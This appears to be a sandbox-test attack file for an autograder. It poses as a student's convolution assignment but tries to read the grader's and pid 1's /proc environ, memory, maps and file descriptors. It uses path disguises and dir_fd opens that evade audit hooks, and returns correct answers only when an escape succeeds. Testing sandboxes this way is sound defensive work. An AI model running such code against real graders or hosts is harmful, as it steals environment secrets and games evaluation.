"""Attack: read other processes through /proc (the grader: our parent; and pid 1).

For each target pid and each file it tries the plain path and disguises: ``/proc//PID``,
``/proc/./PID``, ``/proc/self/../PID``, ``os.open("PID/...", dir_fd=<fd of /proc>)`` (the
``open`` audit event carries no ``dir_fd``) and a symlink to ``/proc/PID`` in a scratch dir.
Tried at import and inside each function; each function's gate opens (it returns the correct
result) when its route worked:

- zero_pad: ``/proc/PID/environ`` (secrets in the grader's environment);
- conv_output_size: ``cmdline``, ``status``, ``maps``;
- conv2d: ``/proc/PID/mem`` (a read at an address taken from ``maps``, or the first mapping),
  also opened through ``dir_fd``;
- conv1d: listing ``/proc/PID/fd`` (``os.listdir``/``os.scandir``, and ``os.listdir`` of a
  descriptor opened through ``dir_fd``) or opening ``/proc/PID/fd/0``.

Expected: score 0, every check failed.
"""
_STEM = "proc_mem_read"

# ------------------------------------------------------------------------------------------
# Common attack scaffolding: identical in every attack file. Definitions only, no side effects.
# ``_ref_*`` are a correct implementation of the assignment, used only when an attack has
# actually escaped the sandbox (so that an escape shows up as *passing* checks); ``_wrong``
# is what the graded functions return otherwise.
# ------------------------------------------------------------------------------------------
import os as _os
import sys as _sys

import numpy as np

_TMP_MARKER = "/tmp/dlgrade_attack_marker_" + _STEM  # + "_<what>": the test asserts none appears
_VICTIM = "/tmp/dlgrade_attack_victim_" + _STEM + ".txt"  # created by the test; must stay unchanged
_ATTACK_PORT = 47391  # the test listens on 127.0.0.1:47391 (TCP and UDP) during socket_attack
_ESCAPED = {}  # gate -> forbidden things that worked; a working sandbox keeps this empty
_WRONG = -12345.0


def _marker(what):
    return _TMP_MARKER + "_" + what


def _escape(gate, what):
    _ESCAPED.setdefault(gate, []).append(what)


def _escaped(gate):
    return bool(_ESCAPED.get(gate)) or bool(_ESCAPED.get("*"))


def _attempt(gate, what, action, verify=None):
    """Try one forbidden ``action``; the gate opens if it works (or if ``verify()`` says it did)."""
    result = None
    try:
        result = action()
        ok = True
    except BaseException:  # blocked (a student may swallow anything, SystemExit included)
        ok = False
    if verify is not None:
        try:
            ok = bool(verify())
        except BaseException:
            ok = False
    if ok:
        _escape(gate, what)
    return result


def _exists(path):
    try:
        return _os.path.lexists(path)
    except BaseException:
        return False


def _write_file(path, text="pwned\n", mode="w"):
    with open(path, mode) as handle:
        handle.write(text)


def _canary():
    """Student code must never create files outside its sandbox; this marker must never appear."""
    try:
        fd = _os.open(_marker("canary"), _os.O_WRONLY | _os.O_CREAT, 0o644)
        try:
            _os.write(fd, b"student code ran with write access outside its sandbox\n")
        finally:
            _os.close(fd)
    except BaseException:
        pass


_SCRATCH = []


def _scratch_dir():
    """A directory of our own (in the sandbox's temp dir if it set TMPDIR), for links and copies.

    Named like a marker on purpose: if it lands in /tmp itself, the sandbox let us write there.
    """
    if not _SCRATCH:
        try:
            import tempfile

            _SCRATCH.append(tempfile.mkdtemp(prefix="dlgrade_attack_marker_" + _STEM + "_scratch"))
        except BaseException:
            try:
                _SCRATCH.append(_os.getcwd())
            except BaseException:
                _SCRATCH.append(".")
    return _SCRATCH[0]


_COUNTER = [0]


def _unique(stem):
    _COUNTER[0] += 1
    return f"{stem}_{_os.getpid()}_{_COUNTER[0]}"


def _repo_roots():
    """Where the grader's repository probably is: walk up from cwd, sys.path, __file__, autograder."""
    found = []

    def add(path):
        try:
            path = _os.path.realpath(str(path))
            looks_right = _os.path.isdir(_os.path.join(path, "autograder")) or _os.path.isdir(
                _os.path.join(path, "solutions")
            )
        except BaseException:
            return
        if looks_right and path not in found:
            found.append(path)

    try:
        import autograder

        add(_os.path.dirname(_os.path.dirname(_os.path.abspath(autograder.__file__))))
    except BaseException:
        pass
    try:
        from autograder.engine import course

        add(_os.path.dirname(str(course.SOLUTIONS_DIR)))
    except BaseException:
        pass
    starts = []
    try:
        starts.append(_os.getcwd())
    except BaseException:
        pass
    try:
        starts.append(_os.path.dirname(_os.path.abspath(__file__)))
    except BaseException:
        pass
    starts += [p for p in list(_sys.path) if isinstance(p, str) and p]
    for start in starts:
        path = _os.path.abspath(start)
        while True:
            add(path)
            parent = _os.path.dirname(path)
            if parent == path:
                break
            path = parent
    return found


def _solution_paths():
    paths = []
    try:
        from autograder.engine import course

        paths.append(_os.path.join(str(course.SOLUTIONS_DIR), "conv_padding.py"))
    except BaseException:
        pass
    for root in _repo_roots():
        path = _os.path.join(root, "solutions", "conv_padding.py")
        if path not in paths:
            paths.append(path)
    return paths


def _pair(value):
    if np.ndim(value) == 0:
        return int(value), int(value)
    first, second = value
    return int(first), int(second)


def _ref_zero_pad(x, pad):
    x = np.asarray(x)
    if np.ndim(pad) == 0:
        (top, bottom), (left, right) = (int(pad), int(pad)), (int(pad), int(pad))
    else:
        pad_h, pad_w = pad
        (top, bottom), (left, right) = _pair(pad_h), _pair(pad_w)
    return np.pad(x, ((0, 0), (top, bottom), (left, right), (0, 0)), mode="constant", constant_values=0)


def _ref_conv_output_size(n, k, stride=1, pad=0):
    return (int(n) + 2 * int(pad) - int(k)) // int(stride) + 1


def _same_pads(n, k, s):
    out = -(-n // s)
    total = max((out - 1) * s + k - n, 0)
    return total // 2, total - total // 2


def _ref_conv_core(x, kernel, bias, sh, sw, pads):
    xp = _ref_zero_pad(x, pads)
    kh, kw = kernel.shape[0], kernel.shape[1]
    oh = (xp.shape[1] - kh) // sh + 1
    ow = (xp.shape[2] - kw) // sw + 1
    windows = np.lib.stride_tricks.sliding_window_view(xp, (kh, kw), axis=(1, 2))
    windows = windows[:, : (oh - 1) * sh + 1 : sh, : (ow - 1) * sw + 1 : sw]
    out = np.einsum("nhwcij,ijco->nhwo", windows, kernel)
    if bias is not None:
        out = out + np.asarray(bias, dtype=np.float64).reshape(-1)
    return out


def _ref_conv2d(x, kernel, bias=None, stride=1, padding="valid"):
    x = np.asarray(x, dtype=np.float64)
    kernel = np.asarray(kernel, dtype=np.float64)
    sh, sw = _pair(stride)
    kh, kw = kernel.shape[0], kernel.shape[1]
    if isinstance(padding, str):
        if padding.lower() == "valid":
            pads = ((0, 0), (0, 0))
        elif padding.lower() == "same":
            pads = (_same_pads(x.shape[1], kh, sh), _same_pads(x.shape[2], kw, sw))
        else:
            raise ValueError(f"unknown padding {padding!r}")
    else:
        if int(padding) < 0:
            raise ValueError("padding must be non-negative")
        pads = ((int(padding), int(padding)), (int(padding), int(padding)))
    return _ref_conv_core(x, kernel, bias, sh, sw, pads)


def _ref_conv1d(x, kernel, bias=None, stride=1, padding="valid"):
    x = np.asarray(x, dtype=np.float64)
    kernel = np.asarray(kernel, dtype=np.float64)
    s = int(np.ravel(stride)[0])
    k = kernel.shape[0]
    if isinstance(padding, str):
        if padding.lower() == "valid":
            pads = (0, 0)
        elif padding.lower() == "same":
            pads = _same_pads(x.shape[1], k, s)
        else:
            raise ValueError(f"unknown padding {padding!r}")
    else:
        if int(padding) < 0:
            raise ValueError("padding must be non-negative")
        pads = (int(padding), int(padding))
    return _ref_conv_core(x[:, None], kernel[None], bias, 1, s, ((0, 0), pads))[:, 0]


def _wrong(*args, **kwargs):
    """A wrong answer: wrong shape and values; it scribbles over its (writable) inputs too."""
    for arg in args + tuple(kwargs.values()):
        if isinstance(arg, np.ndarray) and arg.size and arg.flags.writeable and arg.dtype.kind in "fciu":
            try:
                arg[...] = -12345
            except BaseException:
                pass
    return np.full((1, 1, 1, 1), _WRONG)


def _wrong_size(*args, **kwargs):
    return -12345


# ------------------------------------------------------------------------------------------
# The attack.
# ------------------------------------------------------------------------------------------


def _pids():
    """Other processes only (in a fresh PID namespace we might be pid 1 ourselves)."""
    me = _os.getpid()
    return [pid for pid in dict.fromkeys((_os.getppid(), 1)) if pid >= 1 and pid != me]


def _path_variants(pid, name):
    variants = [
        f"/proc/{pid}/{name}",
        f"/proc//{pid}/{name}",
        f"/proc/./{pid}/{name}",
        f"/proc/self/../{pid}/{name}",
    ]
    try:
        link = _os.path.join(_scratch_dir(), _unique(f"proc_{pid}"))
        _os.symlink(f"/proc/{pid}", link)
        variants.append(_os.path.join(link, name))
    except BaseException:
        pass
    return variants


def _read_one(path, size=4096, offset=None):
    fd = _os.open(path, _os.O_RDONLY)
    try:
        data = _os.pread(fd, size, offset) if offset is not None else _os.read(fd, size)
    finally:
        _os.close(fd)
    if not data:
        raise OSError("nothing read")
    return data


def _read_dir_fd(pid, name, size=4096):
    dfd = _os.open("/proc", _os.O_RDONLY | getattr(_os, "O_DIRECTORY", 0))
    try:
        fd = _os.open(f"{pid}/{name}", _os.O_RDONLY, dir_fd=dfd)
        try:
            data = _os.read(fd, size)
        finally:
            _os.close(fd)
    finally:
        _os.close(dfd)
    if not data:
        raise OSError("nothing read")
    return data


def _read_files(gate, names):
    for pid in _pids():
        for name in names:
            for path in _path_variants(pid, name):
                _attempt(gate, f"read {path}", lambda path=path: _read_one(path))

                def with_open(path=path):
                    with open(path, "rb") as handle:
                        if not handle.read(4096):
                            raise OSError("nothing read")

                _attempt(gate, f"open {path}", with_open)
            _attempt(gate, f"dir_fd read {pid}/{name}", lambda pid=pid, name=name: _read_dir_fd(pid, name))


def _read_mem(gate):
    for pid in _pids():
        address = None
        for path in _path_variants(pid, "maps"):
            maps = _attempt("-", "maps", lambda path=path: _read_one(path, 1 << 16))
            if maps:
                for line in maps.decode(errors="replace").splitlines():
                    if " r" in line:
                        address = int(line.split("-", 1)[0], 16)
                        break
                break
        if address is None:
            maps = _attempt("-", "maps via dir_fd", lambda pid=pid: _read_dir_fd(pid, "maps", 1 << 16))
            for line in (maps or b"").decode(errors="replace").splitlines():
                if " r" in line:
                    address = int(line.split("-", 1)[0], 16)
                    break
        offsets = ([address] if address is not None else []) + [0x400000, 0x10000]
        for path in _path_variants(pid, "mem"):
            for offset in offsets:
                _attempt(gate, f"read {path}@{offset:#x}", lambda path=path, offset=offset: _read_one(path, 64, offset))
        for offset in offsets:

            def mem_dir_fd(pid=pid, offset=offset):
                dfd = _os.open("/proc", _os.O_RDONLY | getattr(_os, "O_DIRECTORY", 0))
                try:
                    fd = _os.open(f"{pid}/mem", _os.O_RDONLY, dir_fd=dfd)
                    try:
                        if not _os.pread(fd, 64, offset):
                            raise OSError("nothing read")
                    finally:
                        _os.close(fd)
                finally:
                    _os.close(dfd)

            _attempt(gate, f"dir_fd read {pid}/mem@{offset:#x}", mem_dir_fd)


def _list_fds(gate):
    for pid in _pids():
        for path in _path_variants(pid, "fd"):
            _attempt(gate, f"listdir {path}", lambda path=path: _os.listdir(path) or None)
            _attempt(gate, f"scandir {path}", lambda path=path: list(_os.scandir(path)) or None)

            def open_fd0(path=path):
                _os.close(_os.open(path + "/0", _os.O_RDONLY | _os.O_NONBLOCK))

            _attempt(gate, f"open {path}/0", open_fd0)

        def list_via_fd(pid=pid):  # open the directory relative to /proc, then list the descriptor
            dfd = _os.open("/proc", _os.O_RDONLY | getattr(_os, "O_DIRECTORY", 0))
            try:
                fd = _os.open(f"{pid}/fd", _os.O_RDONLY | getattr(_os, "O_DIRECTORY", 0), dir_fd=dfd)
                try:
                    return _os.listdir(fd) or None
                finally:
                    _os.close(fd)
            finally:
                _os.close(dfd)

        _attempt(gate, f"listdir(fd of {pid}/fd via dir_fd)", list_via_fd)


def _everything():
    _read_files("zero_pad", ("environ",))
    _read_files("conv_output_size", ("cmdline", "status", "maps"))
    _read_mem("conv2d")
    _list_fds("conv1d")


_canary()
_everything()


def _attack_in(function):
    if function == "zero_pad":
        _read_files("zero_pad", ("environ",))
    elif function == "conv_output_size":
        _read_files("conv_output_size", ("cmdline", "status", "maps"))
    elif function == "conv2d":
        _read_mem("conv2d")
    else:
        _list_fds("conv1d")


def zero_pad(x, pad):
    _attack_in("zero_pad")
    return _ref_zero_pad(x, pad) if _escaped("zero_pad") else _wrong(x, pad)


def conv_output_size(n, k, stride=1, pad=0):
    _attack_in("conv_output_size")
    if _escaped("conv_output_size"):
        return _ref_conv_output_size(n, k, stride, pad)
    return _wrong_size(n, k, stride, pad)


def conv2d(x, kernel, bias=None, stride=1, padding="valid"):
    _attack_in("conv2d")
    if _escaped("conv2d"):
        return _ref_conv2d(x, kernel, bias, stride, padding)
    return _wrong(x, kernel, bias)


def conv1d(x, kernel, bias=None, stride=1, padding="valid"):
    _attack_in("conv1d")
    if _escaped("conv1d"):
        return _ref_conv1d(x, kernel, bias, stride, padding)
    return _wrong(x, kernel, bias)
